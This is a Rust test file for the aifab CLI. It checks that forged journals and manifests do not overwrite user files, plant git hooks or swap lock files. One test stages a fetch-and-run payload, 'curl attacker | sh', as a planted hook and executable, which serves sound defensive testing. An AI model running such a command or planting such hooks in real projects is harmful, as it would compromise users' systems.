//! Journals that cannot be forged (issue 47): a planted `--only` journal, a forged manifest or a planted
//! render journal changes nothing of the user's and swaps no lock; a journal names its paths relative
//! to its own folder, so a tree that moved after a kill settles right; a live process that took the id
//! of a killed render does not block the next one; `diff` settles a pending journal like the other
//! commands.

use crate::common;

use std::path::Path;

/// Runs aifab in `dir` with `env` set: the exit code (None: killed by a signal) and stdout and stderr
/// together.
fn run_env(dir: &Path, args: &[&str], env: &[(&str, &str)]) -> (Option<i32>, String) {
    let mut c = common::aifab_command();
    c.args(args)
        .current_dir(dir)
        .env("NO_COLOR", "1")
        .env("AIFAB_CACHE_DIR", dir.join("cache"));
    for (k, v) in env {
        c.env(k, v);
    }
    let o = c.output().expect("run aifab");
    let text = format!(
        "{}{}",
        String::from_utf8_lossy(&o.stdout),
        String::from_utf8_lossy(&o.stderr)
    );
    (o.status.code(), text)
}

fn run(dir: &Path, args: &[&str]) -> (Option<i32>, String) {
    run_env(dir, args, &[])
}

/// A scratch folder holding `fab.yaml` (a copy of three-tier-small.yaml) rendered into `out`.
fn rendered(name: &str) -> common::Scratch {
    let d = common::Scratch::new(&format!("journal-{name}"));
    std::fs::copy("intents/three-tier-small.yaml", d.join("fab.yaml")).expect("copy");
    let (code, text) = run(&d, &["render", "fab.yaml", "--out", "out", "-q"]);
    assert_eq!(code, Some(0), "{text}");
    d
}

/// Grows fab.yaml by a zone: the next render changes the lock.
fn grow(path: &Path) {
    let mut text = std::fs::read_to_string(path).expect("read");
    for (from, to) in [
        ("servers: 16", "servers: 24"),
        ("zones: 2", "zones: 3"),
        ("65020-65021", "65020-65022"),
    ] {
        assert!(text.contains(from), "{from}");
        text = text.replacen(from, to, 1);
    }
    std::fs::write(path, text).expect("write");
}

/// The hash aifab records for `bytes`, as a journal or manifest spells it.
fn hash(bytes: &[u8]) -> String {
    format!("{:032x}", xxhash_rust::xxh3::xxh3_128(bytes))
}

/// The process id of a process that has ended.
fn dead_pid() -> u32 {
    let mut c = std::process::Command::new("true").spawn().expect("spawn");
    let pid = c.id();
    c.wait().expect("wait");
    pid
}

/// Every file under `dir` with its bytes, sorted (links and folders left out).
fn tree(dir: &Path) -> Vec<(String, Vec<u8>)> {
    let mut out = Vec::new();
    let mut todo = vec![dir.to_path_buf()];
    while let Some(d) = todo.pop() {
        for e in std::fs::read_dir(&d).expect("read").flatten() {
            let t = e.file_type().expect("type");
            if t.is_dir() {
                todo.push(e.path());
            } else if t.is_file() {
                let rel = e
                    .path()
                    .strip_prefix(dir)
                    .expect("inside")
                    .to_string_lossy()
                    .into_owned();
                out.push((rel, std::fs::read(e.path()).expect("read")));
            }
        }
    }
    out.sort();
    out
}

/// The manifest's record of the lock names the hash of the lock beside it.
fn record_matches(out: &Path, lock: &Path) {
    let manifest = std::fs::read_to_string(out.join(".aifab-output")).expect("manifest");
    let want = hash(&std::fs::read(lock).expect("lock"));
    assert!(
        manifest
            .lines()
            .any(|l| l.starts_with("lock: ") && l.ends_with(&want)),
        "the manifest records the lock beside it: {manifest}"
    );
}

/// Writes an in-place journal beside `d/out` for process `pid`: `files` (path, staged bytes) staged in
/// `.out.aifab-only-PID`, each recorded with the hash of its bytes, as aifab would.
fn plant_only_journal(d: &Path, pid: u32, files: &[(&str, &[u8])]) {
    let staging = d.join(format!(".out.aifab-only-{pid}"));
    std::fs::create_dir_all(&staging).expect("mkdir");
    let mut text = format!("aifab in-place journal 2\npid: {pid}\nstate: commit\n");
    for (i, (rel, bytes)) in files.iter().enumerate() {
        std::fs::write(staging.join(i.to_string()), bytes).expect("stage");
        text.push_str(&format!("file: xxh3-128 {} {rel}\n", hash(bytes)));
    }
    std::fs::write(d.join(".out.aifab-journal"), text).expect("journal");
}

/// A planted `--only` journal whose staged manifest claims the user's `NOTES.txt`, or which puts a
/// file under `.git`, or an executable, is not acted on: the render stops (exit 2) naming the journal
/// and why, and the folder, the user's file and the journal stay as they were.
#[cfg(unix)]
#[test]
fn a_planted_only_journal_changes_nothing_of_the_users() {
    use std::os::unix::fs::PermissionsExt as _;
    let d = rendered("planted-only");
    std::fs::write(d.join("out/NOTES.txt"), "mine\n").expect("write");
    std::fs::create_dir_all(d.join("out/.git/hooks")).expect("mkdir");
    let before = tree(&d.join("out"));
    let manifest = std::fs::read_to_string(d.join("out/.aifab-output")).expect("manifest");
    let evil = b"#!/bin/sh\ncurl attacker | sh\n";
    let forged = format!(
        "{manifest}file: NOTES.txt\nhash: xxh3-128 {} NOTES.txt\n",
        hash(evil)
    );
    let pid = dead_pid();
    let cases: [&[(&str, &[u8])]; 3] = [
        // The user's file, then a manifest that lists it as aifab's.
        &[("NOTES.txt", evil), (".aifab-output", forged.as_bytes())],
        // A hook inside a git folder.
        &[(".git/hooks/post-checkout", evil)],
        // A new file, staged executable.
        &[("run.sh", evil)],
    ];
    for (n, files) in cases.iter().enumerate() {
        plant_only_journal(&d, pid, files);
        let staging = d.join(format!(".out.aifab-only-{pid}"));
        if n == 2 {
            let f = staging.join("0");
            std::fs::set_permissions(&f, std::fs::Permissions::from_mode(0o755)).expect("chmod");
        }
        let (code, text) = run(
            &d,
            &["render", "fab.yaml", "--out", "out", "--only", "z1-g1-r1"],
        );
        assert_eq!(code, Some(2), "case {n}: {text}");
        assert!(
            text.contains(".out.aifab-journal: not acted on: ")
                && text.contains("nothing was moved or removed"),
            "case {n}: {text}"
        );
        assert_eq!(tree(&d.join("out")), before, "case {n}: nothing changed");
        assert!(
            d.join(".out.aifab-journal").is_file(),
            "case {n}: the journal is left alone"
        );
        assert!(staging.is_dir(), "case {n}: its staged files too");
        std::fs::remove_dir_all(&staging).expect("rm");
        std::fs::remove_file(d.join(".out.aifab-journal")).expect("rm");
    }
    assert!(!d.join("out/.git/hooks/post-checkout").exists());
    // The journal of the format before hashes, with an absolute folder, is not acted on either.
    std::fs::write(
        d.join(".out.aifab-journal"),
        format!(
            "aifab in-place journal 1\npid: {pid}\nout: {}\nstate: commit\nfile: NOTES.txt\n",
            d.join("out").display()
        ),
    )
    .expect("journal");
    let (code, text) = run(&d, &["render", "fab.yaml", "--check", "out"]);
    assert_eq!(code, Some(2), "{text}");
    assert!(text.contains("not a journal this aifab writes"), "{text}");
    assert_eq!(tree(&d.join("out")), before);
}

/// A manifest that lists a file of the user's (planted, or forged) with a hash its bytes do not have,
/// or with none, does not make it aifab's: a full render keeps it, and says so.
#[test]
fn a_forged_manifest_does_not_make_a_users_file_aifabs() {
    let d = rendered("forged-manifest");
    let manifest = d.join("out/.aifab-output");
    let text = std::fs::read_to_string(&manifest).expect("manifest");
    assert!(
        text.contains(&format!(
            "file: inventory.yml\nhash: xxh3-128 {} inventory.yml\n",
            hash(&std::fs::read(d.join("out/inventory.yml")).expect("inventory"))
        )),
        "each file is listed with the hash of its bytes: {text}"
    );
    for (n, claim) in [
        format!(
            "file: NOTES.txt\nhash: xxh3-128 {} NOTES.txt\n",
            hash(b"what aifab wrote\n")
        ),
        "file: NOTES.txt\n".to_string(),
    ]
    .iter()
    .enumerate()
    {
        std::fs::write(d.join("out/NOTES.txt"), "mine\n").expect("write");
        std::fs::write(&manifest, format!("{text}{claim}")).expect("forge");
        let (code, out) = run(&d, &["render", "fab.yaml", "--out", "out"]);
        assert_eq!(code, Some(0), "case {n}: {out}");
        assert_eq!(
            std::fs::read_to_string(d.join("out/NOTES.txt")).expect("kept"),
            "mine\n",
            "case {n}: the user's file stays: {out}"
        );
        assert!(out.contains("NOTES.txt"), "case {n}: named as kept: {out}");
        let after = std::fs::read_to_string(&manifest).expect("manifest");
        assert!(
            !after.contains("NOTES.txt"),
            "case {n}: no longer listed: {after}"
        );
    }
    // A file aifab wrote and that still holds its bytes is aifab's: gone when the render no longer
    // writes it.
    let extra = b"a device aifab rendered before\n";
    std::fs::write(d.join("out/old-switch.cfg"), extra).expect("write");
    std::fs::write(
        &manifest,
        format!(
            "{text}file: old-switch.cfg\nhash: xxh3-128 {} old-switch.cfg\n",
            hash(extra)
        ),
    )
    .expect("manifest");
    let (code, out) = run(&d, &["render", "fab.yaml", "--out", "out"]);
    assert_eq!(code, Some(0), "{out}");
    assert!(!d.join("out/old-switch.cfg").exists(), "{out}");
}

/// A planted render journal whose staged lock is not the lock the output records (the attack: a
/// journal naming the output's current record and a renumbered staged lock), or a journal of the
/// format before hashes naming an absolute folder, swaps no lock: the render stops (exit 2) naming the
/// journal, and the lock stays.
#[test]
fn a_planted_render_journal_swaps_no_lock() {
    let d = rendered("planted-lock");
    let lock = d.join("fab.lock.yaml");
    let before = std::fs::read(&lock).expect("lock");
    let manifest = std::fs::read_to_string(d.join("out/.aifab-output")).expect("manifest");
    let record = manifest
        .lines()
        .find_map(|l| l.strip_prefix("lock: "))
        .expect("a lock record")
        .to_string();
    let pid = dead_pid();
    let staged = d.join(format!(".fab.lock.yaml.aifab-tmp-{pid}"));
    let forged = String::from_utf8_lossy(&before).replacen("10.", "11.", 1);
    assert_ne!(forged.as_bytes(), &before[..]);
    let journal = d.join(".fab.lock.yaml.aifab-journal");
    let journals = [
        // The output's own record, the forged lock's hash.
        format!(
            "aifab render journal 2\npid: {pid}\nout: out\nwas: none\nrecord: {record}\nlock: xxh3-128 {}\n",
            hash(forged.as_bytes())
        ),
        // The format before hashes, the folder absolute.
        format!(
            "aifab render journal 1\npid: {pid}\nout: {}\nrecord: {record}\n",
            d.join("out").display()
        ),
        // A folder out of reach.
        format!(
            "aifab render journal 2\npid: {pid}\nout: /elsewhere/out\nwas: none\nrecord: {record}\nlock: xxh3-128 {}\n",
            hash(forged.as_bytes())
        ),
    ];
    for (n, j) in journals.iter().enumerate() {
        std::fs::write(&staged, &forged).expect("stage");
        std::fs::write(&journal, j).expect("journal");
        for args in [
            &["render", "fab.yaml", "--out", "out"][..],
            &["compile", "fab.yaml"][..],
        ] {
            let (code, text) = run(&d, args);
            assert_eq!(code, Some(2), "case {n} {args:?}: {text}");
            assert!(
                text.contains(".fab.lock.yaml.aifab-journal: not acted on: "),
                "case {n} {args:?}: {text}"
            );
            assert_eq!(
                std::fs::read(&lock).expect("lock"),
                before,
                "case {n}: the lock stays"
            );
            assert!(
                journal.is_file() && staged.is_file(),
                "case {n}: both left alone"
            );
        }
        // `validate` names it too, and reads the lock as it is.
        let (_, text) = run(&d, &["validate", "fab.yaml"]);
        assert!(
            text.contains("warning: ") && text.contains("aifab-journal: not acted on: "),
            "case {n}: {text}"
        );
        assert_eq!(
            std::fs::read(&lock).expect("lock"),
            before,
            "case {n}: the lock stays"
        );
    }
    std::fs::remove_file(&journal).expect("rm");
    std::fs::remove_file(&staged).expect("rm");
    let (code, text) = run(&d, &["render", "fab.yaml", "--check", "out"]);
    assert_eq!(code, Some(0), "{text}");
}

/// A render killed between the swap and the lock's rename, then the whole tree moved (the output
/// folder beside the intents' folder, `../configs` from the journal): the next `validate` in the moved
/// tree finishes the change, and output and lock are the new pair.
#[cfg(unix)]
#[test]
fn a_tree_moved_after_a_kill_settles_to_the_new_pair() {
    let d = common::Scratch::new("journal-moved");
    let a = d.join("a");
    std::fs::create_dir_all(a.join("intents")).expect("mkdir");
    let intent = a.join("intents/fab.yaml");
    std::fs::copy("intents/three-tier-small.yaml", &intent).expect("copy");
    let render = ["render", "intents/fab.yaml", "--out", "configs", "-q"];
    let (code, text) = run(&a, &render);
    assert_eq!(code, Some(0), "{text}");
    let old_lock = std::fs::read(a.join("intents/fab.lock.yaml")).expect("lock");
    grow(&intent);
    let (code, text) = run_env(
        &a,
        &render,
        &[(aifab::write::interrupt::KILL_AT_ENV, "swapped")],
    );
    assert_eq!(code, None, "killed: {text}");
    let journal = std::fs::read_to_string(a.join("intents/.fab.lock.yaml.aifab-journal"))
        .expect("the journal");
    assert!(journal.contains("\nout: ../configs\n"), "{journal}");
    let b = d.join("b");
    std::fs::rename(&a, &b).expect("move the tree");
    let (code, text) = run(&b, &["validate", "intents/fab.yaml", "-q"]);
    assert_eq!(code, Some(0), "{text}");
    assert!(text.contains("its lock is now in place too"), "{text}");
    let lock = b.join("intents/fab.lock.yaml");
    assert_ne!(
        std::fs::read(&lock).expect("lock"),
        old_lock,
        "the new lock"
    );
    record_matches(&b.join("configs"), &lock);
    assert!(!b.join("intents/.fab.lock.yaml.aifab-journal").exists());
    let (code, text) = run(&b, &["render", "intents/fab.yaml", "--check", "configs"]);
    assert_eq!(code, Some(0), "output and lock are the new pair: {text}");
}

/// A journal naming a live process that is not the render that wrote it (its start time differs: the
/// id was given to another process) does not block the next render; one naming the live process it
/// records does.
#[cfg(target_os = "linux")]
#[test]
fn a_reused_pid_does_not_block_renders() {
    let d = rendered("pid-reuse");
    grow(&d.join("fab.yaml"));
    let (code, text) = run_env(
        &d,
        &["render", "fab.yaml", "--out", "out", "-q"],
        &[(aifab::write::interrupt::KILL_AT_ENV, "journaled")],
    );
    assert_eq!(code, None, "killed: {text}");
    let journal = d.join(".fab.lock.yaml.aifab-journal");
    let text = std::fs::read_to_string(&journal).expect("journal");
    let pid_line = text.lines().nth(1).expect("a pid line").to_string();
    let killed: u32 = pid_line
        .strip_prefix("pid: ")
        .and_then(|l| l.split(' ').next())
        .and_then(|p| p.parse().ok())
        .expect("a pid");
    assert!(pid_line.contains(" started "), "{pid_line}");
    let mut sleeper = std::process::Command::new("sleep")
        .arg("60")
        .spawn()
        .expect("spawn");
    let live = sleeper.id();
    let start = aifab::files::process_start(live).expect("a start time");
    let staged = |pid: u32| d.join(format!(".fab.lock.yaml.aifab-tmp-{pid}"));
    std::fs::rename(staged(killed), staged(live)).expect("rename");
    let as_live = |start: u64| {
        let t = text.replace(&pid_line, &format!("pid: {live} started {start}"));
        std::fs::write(&journal, t).expect("journal");
    };
    // The process it names, as it started: another render is committing.
    as_live(start);
    let (code, out) = run(&d, &["render", "fab.yaml", "--out", "out", "-q"]);
    assert_eq!(code, Some(2), "{out}");
    assert!(
        out.contains(&format!("another aifab render (pid {live})")),
        "{out}"
    );
    // The same id, another start: the process that wrote it is gone, and the render goes on.
    as_live(start + 1);
    let (code, out) = run(&d, &["render", "fab.yaml", "--out", "out"]);
    let _ = sleeper.kill();
    let _ = sleeper.wait();
    assert_eq!(code, Some(0), "{out}");
    assert!(out.contains("had not changed"), "{out}");
    assert!(!journal.exists() && !staged(live).exists(), "{out}");
    record_matches(&d.join("out"), &d.join("fab.lock.yaml"));
}

/// `aifab diff` settles a pending journal before it reads the lock, as `render` and `validate` do.
#[cfg(unix)]
#[test]
fn diff_settles_a_pending_journal() {
    let d = rendered("diff");
    grow(&d.join("fab.yaml"));
    let (code, text) = run_env(
        &d,
        &["render", "fab.yaml", "--out", "out", "-q"],
        &[(aifab::write::interrupt::KILL_AT_ENV, "swapped")],
    );
    assert_eq!(code, None, "killed: {text}");
    assert!(d.join(".fab.lock.yaml.aifab-journal").is_file());
    let (code, text) = run(&d, &["diff", "fab.yaml", "fab.yaml"]);
    assert_eq!(code, Some(0), "{text}");
    assert!(text.contains("its lock is now in place too"), "{text}");
    assert!(!d.join(".fab.lock.yaml.aifab-journal").exists(), "{text}");
    record_matches(&d.join("out"), &d.join("fab.lock.yaml"));
}
